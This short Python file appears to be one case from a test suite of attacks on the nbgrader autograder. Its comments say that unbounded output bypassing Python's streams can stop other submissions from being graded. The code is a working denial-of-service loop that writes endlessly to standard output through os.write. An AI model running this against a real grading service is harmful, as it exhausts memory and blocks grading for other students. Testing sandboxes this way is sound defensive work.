# attacks: output: writing without end, past Python's streams
# success: another submission is not judged
# stock: nbgrader keeps the output in memory without a limit
# %% before
import os

while True:
    os.write(1, b"x" * 65536)
